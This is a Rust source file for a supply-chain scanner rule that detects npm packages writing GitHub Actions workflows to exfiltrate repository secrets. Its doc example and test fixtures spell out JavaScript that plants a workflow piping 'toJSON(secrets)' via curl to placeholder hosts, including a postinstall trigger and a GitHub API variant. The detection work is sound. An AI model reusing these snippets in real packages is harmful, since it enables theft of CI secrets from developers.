//! `ci-workflow-injection`: code that writes GitHub Actions workflows that send secrets away.

use crate::declare_rule;
use crate::detect::campaigns::{self, Confidence};
use crate::rule::{Rule, RuleContext, RuleMeta};
use ferret_core::{Action, PackageFacts};

declare_rule! {
    /// ## What it does
    /// Reports code that writes a GitHub Actions workflow — into the consuming project
    /// (`fs.writeFileSync(".github/workflows/x.yml", …)`) or into the victim's repositories
    /// through the GitHub contents API (`PUT /repos/…/contents/.github/workflows/x.yml`) — and
    /// install-time code that creates repositories with a GitHub token from the environment.
    /// Warned when the workflow body dumps the repository's secrets (`${{ toJSON(secrets) }}`,
    /// or a secret next to `curl`/`wget`) from install-time code or with a token from the
    /// environment, or when any workflow is written at install time.
    ///
    /// ## Why is this a risk?
    /// A workflow runs on the next push with every secret of the repository; a planted one
    /// keeps leaking them after the package is gone. Shai-Hulud (September 2025) pushed
    /// `.github/workflows/shai-hulud-workflow.yml` posting `toJSON(secrets)` to webhook.site
    /// into every repository its stolen tokens could reach.
    ///
    /// ## Example
    /// ```js
    /// fs.writeFileSync(path.join(process.env.INIT_CWD, ".github/workflows/cache.yml"),
    ///   'on: push\njobs:\n  c:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo "${{ toJSON(secrets) }}" | curl -d @- https://collector.example');
    /// ```
    ///
    /// ## False positives
    /// Project generators (`create-*`, nx/angular schematics) write CI workflows when the
    /// user runs them; outside install-time code and without a secrets dump that is only
    /// recorded (monitor).
    ///
    /// ## References
    /// - Shai-Hulud (npm, Sept 2025); nx s1ngularity repository creation (Aug 2025)
    CiWorkflowInjection, id = "ci-workflow-injection", category = Malicious, severity = High, action = Warn,
}

impl Rule for CiWorkflowInjection {
    fn meta(&self) -> &'static RuleMeta {
        &Self::META
    }

    fn check_package(&self, pkg: &PackageFacts, cx: &mut RuleContext) {
        let detected = cx.shared(pkg, campaigns::Campaigns::detect);
        let Some(ev) = detected.get(Self::META.id) else {
            return;
        };
        let action = if ev.confidence == Confidence::High || ev.install_time {
            Self::META.default_action
        } else {
            Action::Monitor
        };
        if let Some(f) = ev.finding(&Self::META, action) {
            cx.report(f);
        }
    }
}

#[cfg(test)]
mod tests {
    use crate::tester::Tester;
    use ferret_core::Action;

    const LOCAL: &str = "const fs = require('fs'); const path = require('path');\n\
        const dir = path.join(process.env.INIT_CWD, '.github', 'workflows');\n\
        fs.writeFileSync(path.join(dir, 'lint-cache.yml'), 'on: push\\njobs:\\n  c:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: echo \"${{ toJSON(secrets) }}\" | curl -d @- https://oast.example/c');\n";

    const API: &str = "const https = require('https'); const token = process.env.GITHUB_TOKEN;\n\
        const wf = `jobs:\\n  s:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: curl -d \"$S\" https://hooks.example/c\\n        env:\\n          S: \\${{ toJSON(secrets) }}`;\n\
        function put(repo) { https.request({ hostname: 'api.github.example', method: 'PUT', path: `/repos/${repo}/contents/.github/workflows/sync.yml` }).end(JSON.stringify({ content: Buffer.from(wf).toString('base64') })); }\n\
        put('me/x');\n";

    #[test]
    fn ci_workflow_injection() {
        let pass = [
            // Reading workflows (a linter for them) writes nothing.
            (
                "lint.js",
                "const fs = require('fs'); for (const f of fs.readdirSync('.github/workflows')) console.log(f);",
            ),
            // Octokit-style route table: repository routes, no workflow, no token.
            (
                "routes.js",
                "module.exports = { createForAuthenticatedUser: ['POST /user/repos'], getContent: ['GET /repos/{owner}/{repo}/contents/{path}'] };",
            ),
            // A workflow generator in docs.
            ("docs/gen.js", LOCAL),
        ];
        let fail = [("postinstall.js", LOCAL), ("lib/sync.js", API)];
        let manifest =
            r#"{"name":"x","version":"1.0.0","scripts":{"postinstall":"node postinstall.js"}}"#;
        let t = Tester::new(super::CiWorkflowInjection)
            .pass(pass)
            .fail(fail)
            .fail_package([("package.json", manifest), ("postinstall.js", LOCAL)]);
        t.test_and_snapshot();
        // A generator run by the user, no secrets dump: recorded only.
        let generator = t.findings([(
            "generators/ci.js",
            "const fs = require('fs'); fs.writeFileSync('.github/workflows/ci.yml', 'jobs:\\n  test:\\n    runs-on: ubuntu-latest');",
        )]);
        assert_eq!(generator[0].action, Action::Monitor);
        assert_eq!(generator[0].evidence["confidence"], "medium");
    }
}
